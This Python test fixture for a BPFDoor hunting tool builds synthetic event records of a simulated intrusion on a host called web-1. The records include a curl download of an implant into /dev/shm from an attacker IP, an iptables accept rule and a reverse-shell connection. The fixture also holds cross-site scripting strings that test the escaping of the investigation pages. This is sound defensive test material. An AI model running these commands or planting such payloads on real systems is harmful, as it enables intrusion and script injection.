"""A small store with everything the investigation pages read, built in a second.

Two hosts. On `web-1`, a BPFDoor-like incident: sshd -> bash -> implant (from /dev/shm,
renamed, a packet socket with the classic filter) -> reverse shell; alerts about it; a sweep
that calls the host compromised, with its JSON result. On `db-1`, ordinary work, a sweep that
calls it clean, an ingested-style process without event.id or ancestry, a sensor-style one
with its user only under process.user, and hostile text in names, arguments and paths.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

from doorhunt.bpf import examples, explain
from doorhunt.ecs import ECS_VERSION
from doorhunt.store import Store

T0 = datetime(2025, 5, 1, 10, 0, tzinfo=UTC)
BPFDOOR = explain(examples.EXAMPLES["bpfdoor-classic"].build()).ecs_bpf_fields()
DHCP_EXAMPLE = examples.EXAMPLES["dhcp-client"]
DHCP = explain(DHCP_EXAMPLE.build(), DHCP_EXAMPLE.link).ecs_bpf_fields()
# Text an attacker controls, written to run script if a page ever used it as HTML.
HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">'
HOSTILE_ARG = "</td><script>window.__pwned=1</script>"
HOSTILE_PATH = '/tmp/"><svg onload=window.__pwned=1>'
HOSTILE_RULE = "<b onmouseover=window.__pwned=1>bold</b> rule"


def iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


@dataclass
class Process:
    entity: str
    pid: int
    name: str
    executable: str
    args: list[str]
    user: str
    parent: Process | None
    ancestry: list[str] = field(default_factory=list)

    def fields(self, start: datetime) -> dict[str, object]:
        fields: dict[str, object] = {
            "pid": self.pid,
            "entity_id": self.entity,
            "name": self.name,
            "executable": self.executable,
            "args": self.args,
            "command_line": " ".join(self.args),
            "start": iso(start),
            "Ext": {"ancestry": self.ancestry},
        }
        if self.parent is not None:
            fields["parent"] = {"pid": self.parent.pid, "entity_id": self.parent.entity}
        return fields


@dataclass
class Fixture:
    """What the tests ask about, by name."""

    data: Path
    entities: dict[str, str] = field(default_factory=dict)
    refs: dict[str, str] = field(default_factory=dict)
    documents: list[dict[str, object]] = field(default_factory=list)


class Builder:
    def __init__(self) -> None:
        self.documents: list[dict[str, object]] = []
        self.serial = 0
        self.starts: dict[str, datetime] = {}

    def process(
        self, host: str, entity: str, pid: int, executable: str, args: list[str], user: str,
        parent: Process | None,
    ) -> Process:  # fmt: skip
        ancestry = [] if parent is None else [parent.entity, *parent.ancestry]
        return Process(
            entity, pid, executable.rsplit("/", 1)[-1], executable, args, user, parent, ancestry
        )

    def event(
        self, host: str, at: datetime, category: str, kind: str, action: str,
        process: Process | None = None, *, event_id: bool = True, user_at_top: bool = True,
        **extra: object,
    ) -> dict[str, object]:  # fmt: skip
        self.serial += 1
        event: dict[str, object] = {
            "kind": "event",
            "category": [category],
            "type": [kind],
            "action": action,
            "dataset": f"doorhunt.{category}",
            "module": "doorhunt",
        }
        if event_id:
            event["id"] = f"evt-{self.serial}"
        document: dict[str, object] = {
            "@timestamp": iso(at),
            "ecs": {"version": ECS_VERSION},
            "event": event,
            "host": {"name": host, "id": f"id-{host}"},
        }
        if process is not None:
            start = self.starts.setdefault(process.entity, at)
            fields = process.fields(start)
            if user_at_top:
                document["user"] = {
                    "name": process.user,
                    "id": "0" if process.user == "root" else "1000",
                }
            else:
                fields["user"] = {"name": process.user, "id": "1000"}
            document["process"] = fields
        document.update(extra)
        self.documents.append(document)
        return document

    def alert(
        self, source: dict[str, object], at: datetime, rule: str, severity: str
    ) -> dict[str, object]:
        self.serial += 1
        event = source["event"]
        assert isinstance(event, dict)
        document = {key: value for key, value in source.items() if key not in ("event", "doorhunt")}
        process = source.get("process")
        entity_ids = [process["entity_id"]] if isinstance(process, dict) else []
        document |= {
            "@timestamp": iso(at),
            "event": {
                "kind": "alert", "category": event["category"], "type": event["type"],
                "action": event["action"], "id": f"alert-{self.serial}",
                "dataset": "doorhunt.alerts", "module": "doorhunt",
                "risk_score": {"low": 21, "medium": 47, "high": 73, "critical": 99}[severity],
            },
            "rule": {"id": f"rule-{rule[:8]}", "uuid": f"rule-{rule[:8]}", "name": rule},
            "doorhunt": {"alert": {"severity": severity, "status": "open",
                                   "source_event_ids": [event.get("id")], "entity_ids": entity_ids}},
        }  # fmt: skip
        self.documents.append(document)
        return document


def build(data: Path) -> Fixture:
    """Write the fixture store (and a sweep result) under `data`."""
    fixture = Fixture(data)
    b = Builder()
    at = T0
    step = timedelta(seconds=1)

    # web-1: the incident.
    systemd = b.process(
        "web-1", "web1-systemd", 1, "/usr/lib/systemd/systemd", ["/sbin/init"], "root", None
    )
    sshd = b.process("web-1", "web1-sshd", 400, "/usr/sbin/sshd", ["sshd", "-D"], "root", systemd)
    b.event("web-1", at - timedelta(hours=1), "process", "info", "already_running", systemd)
    b.event("web-1", at - timedelta(hours=1), "process", "info", "already_running", sshd)
    b.event("web-1", at, "network", "start", "connection_accepted", sshd,
            source={"ip": "198.51.100.77", "port": 40000}, destination={"ip": "10.0.0.1", "port": 22})  # fmt: skip
    bash = b.process("web-1", "web1-bash", 500, "/usr/bin/bash", ["-bash"], "deploy", sshd)
    b.event("web-1", at + step, "process", "start", "fork", bash)
    b.event("web-1", at + 2 * step, "process", "start", "exec", bash)
    b.event("web-1", at + 3 * step, "process", "change", "session_id_change", bash)
    curl = b.process(
        "web-1",
        "web1-curl",
        510,
        "/usr/bin/curl",
        ["curl", "-o", "/dev/shm/kdmtmpflush", "http://198.51.100.77/k"],
        "deploy",
        bash,
    )
    b.event("web-1", at + 10 * step, "process", "start", "exec", curl)
    b.event("web-1", at + 11 * step, "network", "start", "connection_attempted", curl,
            destination={"ip": "198.51.100.77", "port": 80})  # fmt: skip
    b.event("web-1", at + 12 * step, "file", "creation", "creation", curl,
            file={"path": "/dev/shm/kdmtmpflush", "name": "kdmtmpflush"})  # fmt: skip
    b.event("web-1", at + 13 * step, "process", "end", "end", curl)
    implant = b.process(
        "web-1", "web1-implant", 600, "/dev/shm/kdmtmpflush", ["/sbin/udevd", "-d"], "root", bash
    )
    exec_doc = b.event("web-1", at + 20 * step, "process", "start", "exec", implant)
    b.event("web-1", at + 21 * step, "process", "change", "uid_change", implant)
    b.event("web-1", at + 22 * step, "file", "change", "timestomp", implant,
            file={"path": "/dev/shm/kdmtmpflush", "mtime": "2008-10-30T08:37:16.000Z"})  # fmt: skip
    attached = b.event(
        "web-1", at + 23 * step, "network", "change", "filter_attached", implant,
        doorhunt={"socket": {"family": "packet", "type": "raw", "protocol": 2048, "fd": 3,
                             "inode": 913242}, "bpf": BPFDOOR},
    )  # fmt: skip
    b.event("web-1", at + 24 * step, "network", "start", "connection_attempted", implant,
            destination={"ip": "192.0.2.1", "port": 53})  # fmt: skip
    firewall = b.process(
        "web-1",
        "web1-iptables",
        650,
        "/usr/sbin/iptables",
        ["iptables", "-I", "INPUT", "-s", "198.51.100.77", "-j", "ACCEPT"],
        "root",
        implant,
    )
    b.event("web-1", at + 25 * step, "process", "start", "exec", firewall)
    shell = b.process(
        "web-1",
        "web1-shell",
        700,
        "/usr/bin/bash",
        ["qmgr", "-l", "-t", "fifo", "-u"],
        "root",
        implant,
    )
    b.event("web-1", at + 3600 * step, "process", "start", "fork", shell)
    reverse = b.event("web-1", at + 3601 * step, "network", "start", "connection_attempted", shell,
                      destination={"ip": "198.51.100.77", "port": 443})  # fmt: skip
    b.event("web-1", at + 3610 * step, "process", "end", "end", shell)
    listener = b.process(
        "web-1",
        "web1-bind",
        710,
        "/dev/shm/kdmtmpflush",
        ["/usr/libexec/postfix/master"],
        "root",
        implant,
    )
    b.event("web-1", at + 3620 * step, "network", "start", "connection_accepted", listener,
            source={"ip": "198.51.100.77", "port": 5555}, destination={"ip": "10.0.0.1", "port": 42391})  # fmt: skip
    fixture.refs["exec_alert_source"] = ""
    alerts = [
        b.alert(exec_doc, at + 20 * step, "Executable run from shared memory", "critical"),
        b.alert(attached, at + 23 * step, "BPFDoor socket filter attached", "critical"),
        b.alert(reverse, at + 3601 * step, "Reverse shell from a renamed process", "high"),
    ]
    # The sweep, an hour and a half later.
    swept = at + timedelta(minutes=90)
    b.documents.append({
        "@timestamp": iso(swept), "ecs": {"version": ECS_VERSION},
        "event": {"kind": "alert", "category": ["network"], "type": ["info"], "action": "sweep_finding",
                  "module": "doorhunt", "dataset": "doorhunt.sweep", "severity": 100, "risk_score": 100.0},
        "message": "BPFDoor socket filter on AF_PACKET/RAW",
        "rule": {"id": "socket_filter", "name": "BPFDoor socket filter", "category": "sweep"},
        "host": {"name": "web-1", "id": "id-web-1"},
        "process": {"pid": 600, "entity_id": "web1-implant", "name": "udevd"},
        "doorhunt": {"finding": {"check": "socket_filter", "severity": "critical", "score": 100,
                                 "evidence": {"inode": 913242, "socket": "AF_PACKET/RAW"}},
                     "bpf": BPFDOOR, "socket": {"inode": 913242, "netns": 4026531840, "type": "AF_PACKET/RAW"}},
    })  # fmt: skip
    for host, verdict, score in (("web-1", "compromised", 100), ("db-1", "clean", 0)):
        b.documents.append({
            "@timestamp": iso(swept), "ecs": {"version": ECS_VERSION},
            "event": {"kind": "event", "category": ["host"], "type": ["info"], "action": "sweep_completed",
                      "module": "doorhunt", "dataset": "doorhunt.sweep"},
            "host": {"name": host, "id": f"id-{host}"},
            "doorhunt": {"sweep": {"verdict": verdict, "score": score, "complete": True,
                                   "findings": 1 if score else 0, "gaps": []}},
        })  # fmt: skip
    # An earlier sweep of web-1 that found nothing: the overview shows the latest.
    b.documents.append({
        "@timestamp": iso(at - timedelta(days=1)), "ecs": {"version": ECS_VERSION},
        "event": {"kind": "event", "category": ["host"], "type": ["info"], "action": "sweep_completed"},
        "host": {"name": "web-1"}, "doorhunt": {"sweep": {"verdict": "clean", "score": 0}},
    })  # fmt: skip

    # db-1: ordinary work, hostile text, ingested and sensor-style processes.
    init = b.process(
        "db-1", "db1-init", 1, "/usr/lib/systemd/systemd", ["/sbin/init"], "root", None
    )
    b.event("db-1", at - timedelta(hours=1), "process", "info", "already_running", init)
    cron = b.process(
        "db-1", "db1-cron", 300, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], "root", init
    )
    b.event("db-1", at - timedelta(hours=1), "process", "info", "already_running", cron)
    evil = b.process(
        "db-1",
        "db1-evil",
        900,
        "/tmp/<script>window.__pwned=1</script>",
        [HOSTILE_NAME, HOSTILE_ARG],
        "root",
        cron,
    )
    evil.name = HOSTILE_NAME
    evil_exec = b.event("db-1", at + 30 * step, "process", "start", "exec", evil)
    b.event(
        "db-1", at + 31 * step, "file", "creation", "creation", evil, file={"path": HOSTILE_PATH}
    )
    b.alert(evil_exec, at + 31 * step, HOSTILE_RULE, "medium")
    for index in range(40):  # ordinary jobs, for listings and paging
        job = b.process(
            "db-1",
            f"db1-job{index}",
            1000 + index,
            "/usr/bin/gzip",
            ["gzip", f"/var/log/x{index}"],
            "root",
            cron,
        )
        b.event("db-1", at + (40 + index) * step, "process", "start", "exec", job)
        b.event("db-1", at + (40 + index) * step + timedelta(milliseconds=5), "file", "change", "modification", job,
                file={"path": f"/var/log/x{index}.gz"})  # fmt: skip
        b.event(
            "db-1",
            at + (40 + index) * step + timedelta(milliseconds=9),
            "process",
            "end",
            "end",
            job,
        )
    # As ingested audit logs look: no event.id, no ancestry; a child found by parent links.
    audit_parent = Process("db1-audit-a", 2000, "sh", "/bin/sh", ["sh", "-c", "x"], "root", None)
    audit_child = Process("db1-audit-b", 2001, "id", "/usr/bin/id", ["id"], "root", audit_parent)
    b.event("db-1", at + 90 * step, "process", "start", "exec", audit_parent, event_id=False)
    b.event("db-1", at + 91 * step, "process", "start", "exec", audit_child, event_id=False)
    # As the live sensor writes: the user under process.user only.
    sensor_proc = b.process(
        "db-1", "db1-sensorstyle", 2100, "/usr/bin/psql", ["psql"], "postgres", cron
    )
    b.event("db-1", at + 92 * step, "process", "start", "exec", sensor_proc, user_at_top=False)

    store = Store(data / "store")
    with store.writer(compact_interval=None) as writer:
        writer.extend(b.documents)
    report = {
        "host": {"name": "web-1", "hostname": "web-1"},
        "taken_at": iso(swept),
        "verdict": "compromised",
        "score": 100,
        "visibility": {"complete": False, "gaps": ["no CAP_SYS_PTRACE: filters of raw sockets unread"], "notes": []},
        "summary": {"processes": 120, "namespaces": 1, "packet_sockets": 2, "raw_sockets": 0, "seconds": 0.3},
        "processes": [{"pid": 600, "score": 100, "severity": "critical",
                       "process": {"pid": 600, "executable": "/dev/shm/kdmtmpflush (deleted)", "name": "udevd",
                                   "args": ["/sbin/udevd", "-d"]}, "findings": ["socket_filter"]}],
        "findings": [
            {"check": "socket_filter", "severity": "critical", "score": 100, "title": "BPFDoor filter",
             "process": {"pid": 600, "name": "udevd", "executable": "/dev/shm/kdmtmpflush (deleted)"},
             "evidence": {"netns": 4026531840, "inode": 913242, "socket": "AF_PACKET/RAW",
                          "filter": BPFDOOR["bytecode"], "class": "bpfdoor"}},
            {"check": "socket_filter", "severity": "low", "score": 10, "title": "DHCP filter",
             "process": {"pid": 611, "name": "dhclient", "executable": "/usr/sbin/dhclient"},
             "evidence": {"netns": 4026531840, "inode": 11873, "socket": "AF_PACKET/RAW",
                          "interface": "eth0", "filter": DHCP["bytecode"], "class": "dhcp"}},
        ],
    }  # fmt: skip
    (data / "sweeps").mkdir(parents=True, exist_ok=True)
    (data / "sweeps" / f"{swept:%Y%m%dT%H%M%SZ}-web-1.json").write_text(json.dumps(report))
    fixture.entities = {
        "systemd": systemd.entity, "sshd": sshd.entity, "bash": bash.entity, "curl": curl.entity,
        "implant": implant.entity, "shell": shell.entity, "bind": listener.entity,
        "firewall": firewall.entity, "evil": evil.entity, "cron": cron.entity,
        "audit_parent": audit_parent.entity, "audit_child": audit_child.entity,
        "sensor_style": sensor_proc.entity, "init": init.entity,
    }  # fmt: skip
    fixture.documents = b.documents
    fixture.refs = {}
    _ = alerts
    return fixture


T_INCIDENT = T0
